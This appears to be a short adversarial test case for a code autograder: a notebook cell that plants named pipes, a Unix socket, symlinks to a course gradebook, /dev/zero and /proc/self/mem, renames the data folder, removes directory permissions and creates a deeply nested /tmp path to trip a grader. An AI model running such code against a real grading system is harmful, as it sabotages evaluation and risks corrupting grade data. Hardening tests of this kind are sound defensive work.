"""Put FIFOs, sockets and links in the working folder, for a grader that would read or remove them."""

CELLS = [
    """
import os, socket
scaled = total = lambda x: 0
os.mkfifo("attack-fifo"); os.mkfifo("data/fifo")
socket.socket(socket.AF_UNIX).bind("attack-socket")
for target in ("@COURSE@/gradebook.db", "/dev/zero", "/proc/self/mem", "attack-link"):
    os.symlink(target, "attack-link-" + str(hash(target)))
os.rename("data", "attack-data")
os.chmod(".", 0)
os.makedirs("/tmp/" + "attack/" * 500)
"""
]
